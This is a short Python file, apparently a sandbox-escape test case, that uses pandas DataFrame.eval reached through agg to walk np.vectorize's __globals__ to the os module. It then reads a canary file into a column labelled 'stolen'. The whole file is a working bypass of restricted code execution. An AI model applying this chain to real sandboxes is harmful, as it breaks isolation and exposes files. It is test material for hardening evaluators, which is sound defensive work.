# class: class_def
# technique: an instance with __call__ (allowed) is the function given to apply (a class the code defines): the call runs the eval walk per column (DataFrame.eval reached as (frame.agg if len(frame) else None)('eval', ...))
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})

def ev(expr, **names):
    return (frame.agg if len(frame) else None)("eval", 0, expr, local_dict=names)

u = "_" * 2



class Reader:
    def __call__(self, column):
        osv = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['os']", v=[np.vectorize])
        return osv.read(osv.open("{{CANARY_FILE}}", 0), 65536).decode()


reader = Reader()
df = pd.DataFrame({"stolen": [reader(frame["x"])]})
